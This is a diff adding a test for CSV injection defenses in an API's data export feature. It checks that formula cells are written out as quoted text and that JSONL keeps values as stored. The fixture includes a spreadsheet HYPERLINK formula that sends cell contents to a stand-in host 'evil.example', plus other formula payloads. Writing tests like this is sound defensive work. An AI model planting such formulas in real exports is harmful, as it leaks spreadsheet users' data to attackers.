@@ -177,6 +177,21 @@ describe('GET /api/apps/:app/export/:className', () => {
     expect(parse(withAcl.text)[0]).toContain('ACL');
   });
 
+  it('writes formula text as text (CSV injection), and JSON lines as stored', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    await createMany('Sheet', 1, () => ({ name: formula, minus: '-1+cmd', at: '@SUM(1)' }));
+    const c = await as(admin);
+    const [header, row]: string[][] = parse(
+      (await c.call('GET', exportPath('Sheet', { format: 'csv' }))).text,
+    );
+    const cell = (name: string) => row![header!.indexOf(name)];
+    expect(cell('name')).toBe(`'${formula}`);
+    expect(cell('minus')).toBe("'-1+cmd");
+    expect(cell('at')).toBe("'@SUM(1)");
+    const jsonl = await c.call('GET', exportPath('Sheet', { format: 'jsonl' }));
+    expect(JSON.parse(jsonl.text)).toMatchObject({ name: formula });
+  });
+
   it('exports only what the where matches, and only the keys asked for', async () => {
     const c = await as(admin);
     const where = JSON.stringify({ n: { $lt: 50 }, flag: true });
